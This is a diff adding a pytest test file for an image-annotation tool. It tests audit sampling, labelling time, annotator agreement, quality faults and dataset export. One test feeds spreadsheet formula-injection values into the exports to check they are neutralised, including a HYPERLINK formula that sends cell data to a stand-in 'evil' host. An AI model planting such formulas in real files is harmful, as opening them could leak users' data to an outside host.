@@ -1,0 +1,395 @@
+"""From marks to a set: audits, time, agreement, disputes, faults, and what is written."""
+
+from __future__ import annotations
+
+import csv
+import json
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from bench import active_order
+from eyespot.curate.annotate import agreement, auditing, candidates, export, queries
+from eyespot.curate.annotate.active import likely_first
+from eyespot.curate.annotate.annotation_store import AnnotationStore, AuditSample, Candidate
+from eyespot.curate.annotate.auditing import Plan, draw
+from eyespot.curate.annotate.progress import seconds, standing
+from eyespot.curate.annotate.queries import AnnotationQuery
+from eyespot.curate.rerank import Division, RerankLimits
+from eyespot.gallery import filters
+from eyespot.runs import inquire, read_qrels, read_run
+from eyespot.search.collection import Collection
+from eyespot.types import Judgement, NothingFound, UsageError
+
+from .world import desk, gallery, vectors
+
+YES, NO = "y", "n"
+
+
+@pytest.fixture
+def at(tmp_path: Path) -> Iterator[AnnotationStore]:
+    """500 photos of which every fiftieth is relevant, and Ada who knows."""
+    with desk(tmp_path, 500, category="Species", visible="yes", feasible="yes", of_interest="yes") as made:
+        yield made
+
+
+def go_down(at: AnnotationStore, who: str, depth: int) -> None:
+    at.mark("q", who, {str(n): YES if n % 50 == 0 else NO for n in range(depth)})
+
+
+def audit(at: AnnotationStore, who: str, size: int = 100) -> auditing.Audited:
+    drawn = draw(at, "q", who, plan=Plan(size, 1))
+    at.mark("q", who, {photo.image: YES if int(photo.image) % 50 == 0 else NO for photo in drawn.photos})
+    found = auditing.standing(at, "q", who)
+    assert found is not None
+    return found
+
+
+# -- audits ---------------------------------------------------------------------------------------------------------
+
+
+def test_an_audit_is_drawn_from_what_was_not_labelled(at: AnnotationStore) -> None:
+    go_down(at, "ada", 150)
+    drawn = draw(at, "q", "ada", plan=Plan(100))
+    assert (
+        drawn.rest == 350 and min(int(photo.image) for photo in drawn.photos) >= 150 and len(set(drawn.photos)) == 100
+    )
+
+
+def test_the_truth_lies_in_the_cautious_interval(at: AnnotationStore) -> None:
+    go_down(at, "ada", 150)
+    found = audit(at, "ada")
+    assert found.cautious is not None and found.cautious.low <= 7 - found.relevant <= found.cautious.high
+
+
+def test_while_it_is_under_way_it_tells_nothing(at: AnnotationStore) -> None:
+    drawn = draw(at, "q", "ada", plan=Plan(100))
+    at.mark("q", "ada", {drawn.photos[0].image: YES})
+    assert auditing.standing(at, "q", "ada") == auditing.Audited(100, 1, 1)
+
+
+def test_nobody_chooses_between_audits(at: AnnotationStore) -> None:
+    draw(at, "q", "ada", plan=Plan(100))
+    with pytest.raises(UsageError, match="100 photos of the audit"):
+        draw(at, "q", "ada", plan=Plan(100))
+
+
+def test_of_audits_drawn_at_the_same_moment_one_stands(at: AnnotationStore) -> None:
+    """Twice nobody has drawn one yet, and both draw: what the second one keeps comes too late."""
+    drawn = AuditSample(500, 0.5, at.candidates("q")[:100], [])
+    at.keep_audit("q", "ada", drawn, at.audits("q", "ada"))
+    with pytest.raises(UsageError, match="at the same moment"):
+        at.keep_audit("q", "ada", drawn._replace(lot=0.1), 0)
+    assert (at.audits("q", "ada"), at.audit("q", "ada")) == (1, drawn)
+
+
+def test_many_who_draw_at_once_get_one_audit(at: AnnotationStore) -> None:
+    def try_it(_: int) -> bool:
+        try:
+            draw(at, "q", "ada")
+        except UsageError:
+            return False
+        return True
+
+    with ThreadPoolExecutor(6) as pool:
+        drawn = sum(pool.map(try_it, range(6)))
+    assert (drawn, at.audits("q", "ada")) == (1, 1)
+
+
+def test_what_is_labelled_after_the_audit_no_longer_remains(at: AnnotationStore) -> None:
+    go_down(at, "ada", 150)
+    audit(at, "ada")
+    go_down(at, "ada", 500)
+    found = auditing.standing(at, "q", "ada")
+    assert found is not None and found.left == (0, 0, 0)
+
+
+def test_where_everything_is_labelled_nothing_is_audited(at: AnnotationStore) -> None:
+    go_down(at, "ada", 500)
+    with pytest.raises(NothingFound, match="nothing is left"):
+        draw(at, "q", "ada")
+
+
+def test_a_list_that_grows_is_audited_in_the_whole_gallery(tmp_path: Path) -> None:
+    collection = Collection(gallery(tmp_path, 60, 10))
+    with desk(tmp_path, 0) as at:
+        candidates.list_nearest(at, "q", collection, 20)
+        at.mark("q", "ada", {photo.image: NO for photo in at.candidates("q")})
+        drawn = draw(at, "q", "ada", collection, Plan(15))
+    assert (drawn.rest, len({photo.image for photo in drawn.photos} & set(drawn.seen))) == (40, 0)
+
+
+# -- lists ----------------------------------------------------------------------------------------------------------
+
+
+def test_a_search_lists_the_nearest_and_goes_on(tmp_path: Path) -> None:
+    collection = Collection(gallery(tmp_path, 60, 10))
+    with desk(tmp_path, 0) as at:
+        new = [candidates.list_nearest(at, "q", collection, 10), candidates.list_nearest(at, "q", collection, 30)]
+        kinds = [int(photo.path[-8:-4]) < 10 for photo in at.candidates("q")]
+    assert (new, sum(kinds[:10])) == ([10, 30], 10)
+
+
+def test_a_search_that_brought_the_whole_gallery_is_labelled_to_the_end(tmp_path: Path) -> None:
+    collection = Collection(gallery(tmp_path, 20, 2))
+    with desk(tmp_path, 0) as at:
+        candidates.list_nearest(at, "q", collection, 15)
+        at.mark("q", "ada", {photo.image: YES for photo in at.candidates("q")})
+        before = standing(at, "q", "ada").stopped
+        candidates.list_nearest(at, "q", collection, 15)
+        at.mark("q", "ada", {photo.image: YES for photo in at.candidates("q")})
+        after = standing(at, "q", "ada")
+        faults = export.labelled(at, "q").faults
+    assert (before, after.stopped, after.listed) == (False, True, 20)
+    assert faults[-1] == "too easy: 20 of the first 20" and "not labelled to the end" not in faults
+
+
+def test_a_list_at_its_end_goes_on_once_there_are_more_photos(tmp_path: Path) -> None:
+    small, large = (Collection(gallery(tmp_path / str(photos), photos, 2)) for photos in (10, 25))
+    with desk(tmp_path, 0) as at:
+        candidates.list_nearest(at, "q", small, 20)
+        ended = at.goes_on("q")
+        candidates.list_nearest(at, "q", large, 5)
+        assert (ended, at.goes_on("q"), at.grows("q")) == (False, True, True)
+
+
+def test_labels_list_all_their_photos(tmp_path: Path) -> None:
+    collection = Collection(gallery(tmp_path, 60, 10))
+    with desk(tmp_path, 0) as at:
+        new = candidates.list_labelled(at, "q", collection, candidates.any_label("kind", ["heron", "none such"]))
+    assert new == 10
+
+
+def test_a_label_that_no_photo_has_is_told(tmp_path: Path) -> None:
+    with desk(tmp_path, 0) as at, pytest.raises(NothingFound):
+        candidates.list_labelled(at, "q", Collection(gallery(tmp_path, 20, 2)), filters.label("kind", "stork"))
+
+
+def marks(times: list[float]) -> list[Judgement]:
+    return [Judgement("q", str(n), "person:a", "p", None, at=at) for n, at in enumerate(times)]
+
+
+# -- time -----------------------------------------------------------------------------------------------------------
+
+
+def test_pauses_are_not_paid_for() -> None:
+    times = [0.0, 2.0, 2.0, 5.0, 5000.0, 5010.0]
+    # 15 seconds for the four photos after a mark; the first one and the one after the pause count at their pace
+    assert seconds(marks(times)) == pytest.approx(15 * 6 / 4)
+
+
+def test_pages_that_are_marked_at_once_take_the_time_of_a_stop_watch() -> None:
+    """Five pages of 120 photos, 90 seconds each, then a night, then another page."""
+    pages = [*(90.0 * page for page in range(1, 6)), 40_000.0]
+    assert seconds(marks([at for at in pages for _ in range(120)])) == pytest.approx(6 * 90)
+
+
+def test_one_page_alone_has_no_time() -> None:
+    assert seconds(marks([10.0] * 120)) == 0
+
+
+@given(
+    st.lists(st.tuples(st.integers(1, 120), st.floats(0.5, 5)), min_size=3, max_size=30),
+    st.floats(300, 1e6),
+    st.integers(1, 29),
+)
+def test_a_pause_hardly_changes_the_time(pages: list[tuple[int, float]], pause: float, at: int) -> None:
+    """At one pace a pause of any length adds nothing."""
+    counts = [count for count, _ in pages]
+    pace = pages[0][1]
+    ends = [pace * sum(counts[: page + 1]) + (601 + pause if page >= at else 0) for page in range(len(counts))]
+    found = seconds(marks([end for end, count in zip(ends, counts, strict=True) for _ in range(count)]))
+    assert found == pytest.approx(pace * sum(counts))
+
+
+# -- several people -------------------------------------------------------------------------------------------------
+
+
+def test_two_people_are_compared_where_both_labelled(at: AnnotationStore) -> None:
+    at.mark("q", "ada", {"0": YES, "1": YES, "2": NO, "3": NO})
+    at.mark("q", "bob", {"1": YES, "2": YES, "3": "d", "4": NO})
+    (overlap,) = agreement.overlaps(agreement.everybody(at, "q"))
+    assert (overlap.photos, overlap[2:], overlap.agreed) == (3, (1, 0, 1, 1), pytest.approx(2 / 3))
+
+
+def test_agreement_beyond_chance_of_two(at: AnnotationStore) -> None:
+    pytest.importorskip("eyespot.runs.agreement")
+    at.mark("q", "ada", {str(n): YES if n < 5 else NO for n in range(10)})
+    at.mark("q", "bob", {str(n): YES if n < 4 else NO for n in range(12)})
+    found = agreement.coefficients(agreement.everybody(at, "q"))
+    # They agree on 9 of 10, and by chance on 0.5 · 0.4 + 0.5 · 0.6 = 0.5 of them.
+    assert found["cohen_kappa"].value == pytest.approx(0.8)
+
+
+def test_doubt_and_no_are_no_dispute(at: AnnotationStore) -> None:
+    at.mark("q", "ada", {"0": YES, "1": NO})
+    at.mark("q", "bob", {"0": NO, "1": "d"})
+    assert [one.marks for one in agreement.disputes(at, "q")] == [{"ada": YES, "bob": NO}]
+
+
+def test_a_tie_counts_as_no_until_it_is_settled(at: AnnotationStore) -> None:
+    at.mark("q", "ada", {"0": YES})
+    at.mark("q", "bob", {"0": NO})
+    before = agreement.labels(at, "q")
+    agreement.settle(at, "q", "eve", "0", YES)
+    assert (before, agreement.labels(at, "q"), agreement.disputes(at, "q")) == ({"0": False}, {"0": True}, [])
+
+
+def test_whoever_settles_is_no_further_annotator(at: AnnotationStore) -> None:
+    at.mark("q", "ada", {"0": YES})
+    at.mark("q", "bob", {"0": NO})
+    agreement.settle(at, "q", "eve", "0", YES)
+    assert list(agreement.everybody(at, "q")) == ["ada", "bob"]
+
+
+def test_the_majority_counts(at: AnnotationStore) -> None:
+    for who, mark in (("ada", YES), ("bob", YES), ("eve", NO)):
+        at.mark("q", who, {"0": mark})
+    assert agreement.labels(at, "q") == {"0": True}
+
+
+# -- faults ---------------------------------------------------------------------------------------------------------
+
+
+def test_a_query_labelled_and_audited_has_nothing_to_mend(at: AnnotationStore) -> None:
+    go_down(at, "ada", 500)
+    assert export.labelled(at, "q").faults == []
+
+
+def test_a_query_without_an_audit_is_to_be_mended(at: AnnotationStore) -> None:
+    go_down(at, "ada", 150)
+    at.mark("q", "ada", {"100": NO, **{str(n): NO for n in range(150, 170)}, "50": NO})
+    assert export.labelled(at, "q").faults == ["no audit of the rest"]
+
+
+def test_a_query_that_is_too_easy_is_told(at: AnnotationStore) -> None:
+    at.mark("q", "ada", {str(n): YES if n < 51 else NO for n in range(500)})
+    assert export.labelled(at, "q").faults == ["too easy: 51 of the first 100"]
+
+
+def test_a_list_that_labels_narrowed_is_not_too_easy(tmp_path: Path) -> None:
+    collection = Collection(gallery(tmp_path, 60, 10))
+    with desk(tmp_path, 0, visible="yes", feasible="yes", of_interest="yes") as at:
+        candidates.list_labelled(at, "q", collection, candidates.any_label("kind", ["heron"]))
+        at.mark("q", "ada", {photo.image: YES for photo in at.candidates("q")})
+        assert export.labelled(at, "q").faults == []
+
+
+def test_a_ranking_that_labels_were_added_to_may_be_too_easy(tmp_path: Path) -> None:
+    collection = Collection(gallery(tmp_path, 120, 60))
+    with desk(tmp_path, 0) as at:
+        candidates.list_nearest(at, "q", collection, 110)
+        candidates.list_labelled(at, "q", collection, candidates.any_label("kind", ["heron"]))
+        at.mark("q", "ada", {photo.image: YES for photo in at.candidates("q")})
+        assert "too easy: 100 of the first 100" in export.labelled(at, "q").faults
+
+
+def test_the_share_found_is_told_on_the_safe_side(at: AnnotationStore) -> None:
+    go_down(at, "ada", 150)
+    audit(at, "ada")
+    stands = standing(at, "q", "ada")
+    assert stands.audit is not None and stands.audit.cautious is not None
+    assert stands.found_at_least == stands.relevant / (stands.relevant + stands.audit.cautious.high)
+
+
+# -- what is written ------------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def out(at: AnnotationStore, tmp_path: Path) -> Path:
+    go_down(at, "ada", 120)
+    at.mark("q", "bob", {"0": NO, "1": NO})
+    export.write(at, export.every(at), tmp_path / "out")
+    return tmp_path / "out"
+
+
+def test_inquires_files_are_read_as_inquires(out: Path) -> None:
+    found = inquire.read(out / "queries.csv", out / "annotations.csv")
+    assert (found.queries["q"]["category"], found.qrels.relevant("q")) == ("Species", {"50", "100"})
+
+
+def test_every_row_of_the_annotations_is_a_match(out: Path) -> None:
+    """INQUIRE's code reads no column but these three and counts every row."""
+    lines = (out / "annotations.csv").read_text().splitlines()
+    assert lines == ["query_id,image_id,image_path", "q,50,50.jpg", "q,100,100.jpg"]
+
+
+def test_judged_negatives_stay(out: Path) -> None:
+    with (out / "labels.csv").open() as file:
+        rows = list(csv.DictReader(file))
+    assert (len(rows), sum(row["relevant"] == "0" for row in rows)) == (120, 118)
+
+
+def test_qrels_and_the_list_are_written(out: Path) -> None:
+    assert (len(read_qrels(out / "qrels.json")["q"]), len(read_run(out / "candidates.json")["q"])) == (120, 500)
+
+
+def test_label_studio_has_every_persons_word(out: Path) -> None:
+    first = json.loads((out / "label-studio.json").read_text())[0]
+    said = [one["result"][0] for one in first["annotations"]]
+    assert [(one["meta"]["text"], one["value"]["choices"]) for one in said] == [
+        (["ada"], ["relevant"]),
+        (["bob"], ["not relevant"]),
+    ]
+
+
+@pytest.mark.parametrize("place", ["before", "behind"])
+def test_a_photo_keeps_its_place_though_another_query_does_not_know_it(tmp_path: Path, place: str) -> None:
+    listed = {"before": "", "behind": "a.jpg"}
+    with AnnotationStore(tmp_path / "ledger.sqlite") as at:
+        for id in ("q", "r"):
+            at.take_in([AnnotationQuery(id, f"a heron {id}", {})])
+            at.extend(id, [Candidate("aa", listed[place] if id == "q" else "a.jpg" if place == "before" else "")])
+            at.mark(id, "ada", {"aa": YES})
+        export.write(at, export.every(at), tmp_path / "out")
+    lines = (tmp_path / "out" / "annotations.csv").read_text().splitlines()
+    assert lines[1:] == ["q,aa,a.jpg", "r,aa,a.jpg"]
+
+
+def test_no_text_is_a_formula_and_all_come_back(tmp_path: Path) -> None:
+    wanted = AnnotationQuery("=1+1", '=HYPERLINK("http://evil/"&A1,"x")', {"category": "@SUM(1)"})
+    with AnnotationStore(tmp_path / "ledger.sqlite") as at:
+        at.take_in([wanted])
+        at.extend("=1+1", [Candidate("-2", "-2+3.jpg"), Candidate("b", "\t=tab.jpg")])
+        at.mark("=1+1", "ada", {"-2": YES, "b": NO})
+        export.write(at, export.every(at), tmp_path / "out")
+    names = [tmp_path / "out" / name for name in ("queries.csv", "annotations.csv", "labels.csv")]
+
+    cells = [cell for name in names for row in csv.reader(name.read_text().splitlines()) for cell in row]
+    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))] == []
+    (back,) = queries.read(names[0])
+    assert (back.id, back.text, back.facts["category"]) == (wanted.id, wanted.text, "@SUM(1)")
+    assert inquire.read(names[0], names[2]).qrels.grades == {"=1+1": {"-2": 1, "b": 0}}
+
+
+def test_the_datasheet_says_who_and_how_much(out: Path) -> None:
+    text = (out / "datasheet.md").read_text()
+    assert "| annotators | 2 (ada, bob) |" in text and "| labelled pairs | 120, of which 2 relevant |" in text
+
+
+def test_the_rerank_subset_is_made_of_the_first_of_the_list(at: AnnotationStore) -> None:
+    go_down(at, "ada", 120)
+    made = export.rerank_set(export.every(at), RerankLimits(100), Division())
+    assert (len(made.run["q"]), made.judged.qrels.relevant("q")) == (100, {"0", "50"})
+
+
+def test_nothing_is_written_where_everything_is_to_be_mended(at: AnnotationStore) -> None:
+    go_down(at, "ada", 3)
+    with pytest.raises(NothingFound, match="not labelled to the end"):
+        export.flawless(export.every(at))
+
+
+# -- the likely ones first ------------------------------------------------------------------------------------------
+
+
+def test_the_likely_ones_come_in_half_the_photos_where_the_words_mislead() -> None:
+    world = active_order.clustered(7)
+    assert active_order.likely(world) < active_order.in_order(world) / 2
+
+
+def test_before_both_kinds_were_seen_the_ranking_stays() -> None:
+    assert likely_first(vectors(9, 3), [True, True, *[None] * 7]).tolist() == [2, 3, 4, 5, 6, 7, 8]
